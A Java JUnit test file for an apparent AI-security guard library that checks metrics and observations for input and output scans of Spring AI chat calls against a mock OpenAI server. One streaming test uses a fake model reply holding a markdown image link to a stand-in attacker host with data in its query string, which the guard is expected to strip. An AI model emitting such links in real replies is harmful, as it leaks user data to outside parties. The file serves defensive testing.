package dev.aisecurity.ai;

import java.io.IOException;
import java.util.List;
import java.util.concurrent.CopyOnWriteArrayList;
import java.util.function.Consumer;

import dev.aisecurity.autoconfigure.ai.AiSecurityChatClientAutoConfiguration;
import dev.aisecurity.autoconfigure.guard.AiSecurityAutoConfiguration;
import dev.aisecurity.autoconfigure.output.OutputGuardAutoConfiguration;
import dev.aisecurity.guard.AiGuardException;
import dev.aisecurity.guard.Scanner;
import io.micrometer.core.instrument.Meter;
import io.micrometer.core.instrument.MeterRegistry;
import io.micrometer.core.instrument.Tag;
import io.micrometer.core.instrument.Timer;
import io.micrometer.core.instrument.simple.SimpleMeterRegistry;
import io.micrometer.observation.Observation;
import io.micrometer.observation.ObservationHandler;
import io.micrometer.observation.ObservationRegistry;
import io.micrometer.observation.tck.TestObservationRegistry;
import mockwebserver3.MockResponse;
import mockwebserver3.MockWebServer;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

import org.springframework.ai.chat.client.ChatClient;
import org.springframework.ai.model.chat.client.autoconfigure.ChatClientAutoConfiguration;
import org.springframework.ai.model.openai.autoconfigure.OpenAiChatAutoConfiguration;
import org.springframework.ai.model.tool.autoconfigure.ToolCallingAutoConfiguration;
import org.springframework.boot.autoconfigure.AutoConfigurations;
import org.springframework.boot.test.context.assertj.AssertableApplicationContext;
import org.springframework.boot.test.context.runner.ApplicationContextRunner;

import static io.micrometer.observation.tck.TestObservationRegistryAssert.assertThat;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatExceptionOfType;

/**
 * Per-scanner timers and the {@code ai.security.guard} observation, seen through the real
 * Spring AI OpenAI client talking to a local server speaking the OpenAI API.
 */
class GuardObservabilityOpenAiTests {

	private static final String CANARY = "CANARY-obs-5d21";

	private MockWebServer server;

	private final List<Observation.Context> observed = new CopyOnWriteArrayList<>();

	@BeforeEach
	void startServer() throws IOException {
		this.server = new MockWebServer();
		for (int i = 0; i < 4; i++) {
			this.server.enqueue(new MockResponse.Builder().code(200)
				.addHeader("Content-Type", "application/json")
				.body(OpenAiInputGuardTests.completion("Paris"))
				.build());
		}
		this.server.start(0);
	}

	@AfterEach
	void stopServer() {
		this.server.close();
	}

	private void run(Consumer<AssertableApplicationContext> test) {
		new ApplicationContextRunner()
			.withConfiguration(
					AutoConfigurations.of(OpenAiChatAutoConfiguration.class, ToolCallingAutoConfiguration.class,
							ChatClientAutoConfiguration.class, AiSecurityAutoConfiguration.class,
							AiSecurityChatClientAutoConfiguration.class, OutputGuardAutoConfiguration.class))
			.withPropertyValues("spring.ai.openai.base-url=" + this.server.url("/v1"), "spring.ai.openai.api-key=test",
					"spring.ai.openai.chat.options.model=gpt-4o-mini", "spring.ai.retry.max-attempts=1")
			.withBean("testPhraseScanner", Scanner.class, TestScanners::phraseBlocker)
			.withBean(SimpleMeterRegistry.class, SimpleMeterRegistry::new)
			.withBean(TestObservationRegistry.class, () -> {
				TestObservationRegistry registry = TestObservationRegistry.create();
				registry.observationConfig().observationHandler(new ObservationHandler<>() {
					@Override
					public void onStop(Observation.Context observed) {
						GuardObservabilityOpenAiTests.this.observed.add(observed);
					}

					@Override
					public boolean supportsContext(Observation.Context observed) {
						return true;
					}
				});
				return registry;
			})
			.run((context) -> {
				assertThat(context).hasNotFailed();
				test.accept(context);
			});
	}

	private static ChatClient client(AssertableApplicationContext context) {
		return context.getBean(ChatClient.Builder.class).build();
	}

	@Test
	void eachScannerRunIsTimedByScannerAndDirection() {
		run((context) -> {
			client(context).prompt().user("What is the capital of France? " + CANARY).call().content();
			MeterRegistry registry = context.getBean(MeterRegistry.class);
			Timer timer = registry.get(MetricsScannerTimingListener.SCANNER)
				.tags("scanner", "test-phrase", "direction", "input")
				.timer();
			assertThat(timer.count()).isEqualTo(1);
			assertThat(registry.find(MetricsScannerTimingListener.SCANNER).timers())
				.allSatisfy((meter) -> assertThat(meter.getId().getTags()).extracting(Tag::getKey)
					.containsExactlyInAnyOrder("scanner", "direction"));
			for (Meter meter : registry.getMeters()) {
				assertThat(meter.getId().toString()).doesNotContain(CANARY);
			}
		});
	}

	@Test
	void anAllowedPromptScanIsObservedInsideTheChatClientObservation() {
		run((context) -> {
			client(context).prompt().user("What is the capital of France? " + CANARY).call().content();
			TestObservationRegistry registry = (TestObservationRegistry) context.getBean(ObservationRegistry.class);
			assertThat(registry).hasObservationWithNameEqualTo(GuardObservation.NAME)
				.that()
				.hasBeenStarted()
				.hasBeenStopped()
				.hasLowCardinalityKeyValue("direction", "input")
				.hasLowCardinalityKeyValue("decision", "allow")
				.doesNotHaveError()
				.hasParentObservationContextMatching((parent) -> parent.getName().startsWith("spring.ai"));
			assertThat(this.observed).isNotEmpty()
				.allSatisfy((observed) -> assertThat(observed.getAllKeyValues().toString()).doesNotContain(CANARY));
		});
	}

	@Test
	void aGuardedAnswerIsObservedAsOutput() {
		run((context) -> {
			String reply = client(context).prompt().user("What is the capital of France?").call().content();
			assertThat(reply).isEqualTo("Paris");
			assertThat(this.observed).filteredOn((observed) -> GuardObservation.NAME.equals(observed.getName()))
				.extracting((observed) -> observed.getLowCardinalityKeyValue("direction").getValue() + "/"
						+ observed.getLowCardinalityKeyValue("decision").getValue())
				.containsExactlyInAnyOrder("input/allow", "output/allow");
		});
	}

	@Test
	void aBlockedPromptScanIsObservedAsBlock() {
		run((context) -> {
			assertThatExceptionOfType(AiGuardException.class).isThrownBy(() -> client(context).prompt()
				.user("Please " + TestScanners.BLOCK_PHRASE + " " + CANARY)
				.call()
				.content());
			TestObservationRegistry registry = (TestObservationRegistry) context.getBean(ObservationRegistry.class);
			assertThat(registry).hasObservationWithNameEqualTo(GuardObservation.NAME)
				.that()
				.hasBeenStopped()
				.hasLowCardinalityKeyValue("direction", "input")
				.hasLowCardinalityKeyValue("decision", "block");
			assertThat(this.server.getRequestCount()).isZero();
		});
	}

	@Test
	void aGuardedStreamIsObservedUntilItEnds() throws IOException {
		this.server.close();
		this.server = new MockWebServer();
		this.server.enqueue(new MockResponse.Builder().code(200)
			.addHeader("Content-Type", "text/event-stream")
			.body(OpenAiInputGuardTests.sse("Refunds: see ![chart](https://evil.example/c.png?d=abc123) for details."))
			.build());
		this.server.start(0);
		run((context) -> {
			String reply = String.join("",
					client(context).prompt()
						.user("Who handles refunds? " + CANARY)
						.stream()
						.content()
						.collectList()
						.block(java.time.Duration.ofSeconds(20)));
			assertThat(reply).startsWith("Refunds: see ").doesNotContain("evil.example");
			TestObservationRegistry registry = (TestObservationRegistry) context.getBean(ObservationRegistry.class);
			assertThat(this.observed).filteredOn((observed) -> GuardObservation.NAME.equals(observed.getName()))
				.extracting((observed) -> observed.getLowCardinalityKeyValue("direction").getValue() + "/"
						+ observed.getLowCardinalityKeyValue("decision").getValue())
				.contains("output/allow");
			assertThat(this.observed)
				.filteredOn((observed) -> GuardObservation.NAME.equals(observed.getName())
						&& "output".equals(observed.getLowCardinalityKeyValue("direction").getValue()))
				.singleElement()
				.satisfies((observed) -> assertThat(observed.getParentObservation()).isNotNull());
			assertThat(registry).hasObservationWithNameEqualTo(GuardObservation.NAME).that().hasBeenStopped();
			assertThat(this.observed)
				.allSatisfy((observed) -> assertThat(observed.getAllKeyValues().toString()).doesNotContain(CANARY)
					.doesNotContain("jane"));
		});
	}

}
